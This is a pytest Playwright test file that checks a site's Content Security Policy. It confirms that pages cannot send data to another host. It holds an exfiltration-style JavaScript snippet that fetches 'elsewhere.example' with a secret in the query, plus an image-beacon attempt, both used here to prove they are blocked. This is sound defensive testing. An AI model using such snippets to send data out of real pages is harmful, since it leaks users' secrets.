"""The pages' own policy: whatever gets into a page, the browser lets nothing out."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext

pytestmark = pytest.mark.browser

SEND = """async () => {
  try { await fetch("https://elsewhere.example/?secret=1"); return "sent"; } catch { return "refused"; }
}"""
REFUSED = """() => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
  const image = document.createElement("img");
  image.src = "https://elsewhere.example/pixel.png";
  document.body.append(image);
})"""


@pytest.mark.parametrize("address", ["", "desk/", "scenarios/change-request/", "eta/"])
def test_a_page_can_send_nothing_to_another_host(shared: BrowserContext, address: str) -> None:
    page = shared.new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto(address)
    assert page.evaluate(SEND) == "refused"
    assert page.evaluate(REFUSED) == "img-src"
    assert not [url for url in asked if "elsewhere" in url]
